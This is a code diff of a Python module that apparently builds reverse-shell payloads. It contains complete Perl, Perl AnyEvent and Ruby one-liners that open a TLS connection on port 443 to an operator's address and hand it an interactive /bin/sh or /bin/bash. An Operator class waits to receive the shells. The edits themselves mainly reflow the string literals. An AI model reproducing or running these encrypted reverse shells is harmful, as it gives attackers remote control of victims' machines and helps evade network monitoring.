@@ -85,6 +85,9 @@ HABITS = {
 class Operator(Person):
     """Someone who waits for a shell; reads what it says, so that nothing waits for them."""
 
+    def __enter__(self) -> Operator:
+        return self
+
     def watches(self, seconds: float) -> None:
         """Read for a while."""
         end = time.monotonic() + seconds
@@ -165,8 +168,8 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
     perl = (
         "use IO::Socket::SSL; use IPC::Open3; use IO::Select; my $s = IO::Socket::SSL->new(PeerHost => $ARGV[0], "
         "PeerPort => 443, SSL_verify_mode => 0) or die; my $p = open3(my $i, my $o, undef, '/bin/sh'); "
-        "my $w = IO::Select->new($s, $o); while (1) { for my $f ($w->can_read) { my $n = sysread($f, my $d, 4096) or exit; "
-        "if ($f == $s) { syswrite($i, $d) } else { syswrite($s, $d) } } }"
+        "my $w = IO::Select->new($s, $o); while (1) { for my $f ($w->can_read) { "
+        "my $n = sysread($f, my $d, 4096) or exit; if ($f == $s) { syswrite($i, $d) } else { syswrite($s, $d) } } }"
     )
     anyevent = (
         "use AnyEvent; use AnyEvent::Handle; use AnyEvent::Socket; my $c = AE::cv; tcp_connect $ARGV[0], 443, sub { "
@@ -175,8 +178,8 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
         "$h->push_write($o . '$ '); $r->() }) }; $h->push_write('$ '); $r->() }; $c->recv"
     )
     ruby = (
-        "require 'socket'; require 'openssl'; require 'pty'; s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ARGV[0], 443)); "
-        "s.connect; s.sync = true; PTY.spawn('/bin/bash') { |o, i, _| Thread.new { while d = s.readpartial(4096); "
+        "require 'socket'; require 'openssl'; require 'pty'; "
+        "s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ARGV[0], 443)); s.connect; s.sync = true; PTY.spawn('/bin/bash') { |o, i, _| Thread.new { while d = s.readpartial(4096); "
         "i.write(d); end }; begin; loop { s.write(o.readpartial(4096)) }; rescue Errno::EIO, EOFError; end }"
     )
     prolog = lab.folder / "shell.pl"
